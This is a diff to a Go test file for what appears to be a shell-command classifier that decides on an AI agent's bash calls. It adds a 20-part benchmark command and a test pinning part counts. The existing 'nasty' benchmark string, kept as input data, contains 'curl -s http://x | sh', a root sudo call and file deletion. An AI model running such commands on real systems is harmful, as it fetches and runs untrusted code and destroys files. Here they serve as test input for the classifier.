@@ -94,6 +94,27 @@ var benchCommands = map[string]string{
 	"simple": "go test ./...",
 	"nasty": `cd src && FOO=1 timeout 30 bash -c "find . -name '*.tmp' -exec rm {} \; ; echo $(git status --short | wc -l)" ` +
 		`| tee /dev/null > out.log 2>&1 || { sudo -u root env X=1 nice -n 5 xargs rm < list; curl -s http://x | sh; }`,
+	// twenty is issue 16's 20-part command: an agent's shell line of 20 simple
+	// commands, read-only and writing, in &&, ; and | lists, with quotes, a
+	// subshell and a command substitution. TestBenchCommandParts pins its 20 parts.
+	"twenty": `cd src && git status --short && ls -la && grep -rn TODO . | head -20 && ` +
+		`git diff --stat HEAD~1 | tee ../diff.txt; (cd ../docs && cat README.md | wc -l) && ` +
+		`sed -i 's/foo/bar/g' main.go && go build ./... && go test -run 'TestParse' ./pkg/... 2>&1 | tail -5; ` +
+		`echo "built at $(date +%s)" && mkdir -p out && cp "build/app" out/ && git add main.go && ` +
+		`git commit -m "fix: handle empty input"`,
+}
+
+// benchCommandParts is how many parts the classifier makes of each benchmark
+// command, so that a change to the classifier cannot silently change what the
+// benchmarks measure.
+var benchCommandParts = map[string]int{"simple": 1, "nasty": 11, "twenty": 20}
+
+func TestBenchCommandParts(t *testing.T) {
+	for name, command := range benchCommands {
+		if got, want := len(ClassifyCommand(command).Parts), benchCommandParts[name]; got != want {
+			t.Errorf("%s: %d parts, want %d", name, got, want)
+		}
+	}
 }
 
 // BenchmarkDecide measures one decision (input decoding, classification, the rules,
@@ -102,7 +123,7 @@ var benchCommands = map[string]string{
 func BenchmarkDecide(b *testing.B) {
 	for _, n := range []int{10, 100, 1000} {
 		policies := benchPolicy(b, n)
-		for _, name := range []string{"simple", "nasty"} {
+		for _, name := range []string{"simple", "nasty", "twenty"} {
 			req := bashCall(v1alpha1.ModeEdit, benchCommands[name])
 			b.Run(fmt.Sprintf("rules=%d/%s", n, name), func(b *testing.B) {
 				b.ReportAllocs()
@@ -131,7 +152,7 @@ func BenchmarkDecideCatchAll(b *testing.B) {
 
 // BenchmarkClassifyCommand measures the shell classifier alone.
 func BenchmarkClassifyCommand(b *testing.B) {
-	for _, name := range []string{"simple", "nasty"} {
+	for _, name := range []string{"simple", "nasty", "twenty"} {
 		b.Run(name, func(b *testing.B) {
 			b.ReportAllocs()
 			for b.Loop() {
@@ -144,7 +165,7 @@ func BenchmarkClassifyCommand(b *testing.B) {
 // BenchmarkParseFloor is the floor of a classification: parsing the command with the
 // shell parser and nothing else, measured in the same run as the classifier.
 func BenchmarkParseFloor(b *testing.B) {
-	for _, name := range []string{"simple", "nasty"} {
+	for _, name := range []string{"simple", "nasty", "twenty"} {
 		b.Run(name, func(b *testing.B) {
 			b.ReportAllocs()
 			for b.Loop() {
